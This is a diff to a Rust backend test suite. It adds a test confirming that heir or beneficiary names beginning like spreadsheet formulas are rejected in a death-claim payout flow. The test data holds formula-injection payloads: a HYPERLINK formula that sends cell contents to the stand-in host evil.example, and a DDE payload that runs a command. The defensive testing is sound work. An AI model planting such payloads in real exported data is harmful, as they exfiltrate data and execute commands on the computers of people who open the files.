@@ -448,3 +448,14 @@ backend_test!(statistics_count_payouts_where_the_coverage_was_paid, |app: TestAp
         assert_eq!(data(&response)["coverageStats"]["payoutsPaidAmount"], "0", "{area}");
     }
 });
+
+backend_test!(heirs_names_that_start_like_a_formula_are_refused, |app: TestApp| async move {
+    let (worker, _) = covered_worker(&app, 1, "2023-01-01", "1000000").await;
+    for name in [r#"=HYPERLINK("http://evil.example/?x="&A2,"klik")"#, "+cmd|' /C calc'!A0", " @SUM(1+1)"] {
+        let mut input = claim(&worker, "DEATH", "2024-02-01");
+        input["beneficiaryName"] = json!(name);
+        let response = submit(&app, &app.admin, input).await;
+        assert_eq!((error_code(&response), error_field(&response)), ("BAD_USER_INPUT", "beneficiaryName"), "{name}");
+    }
+    assert_eq!(app.count_rows("payout").await, 0);
+});
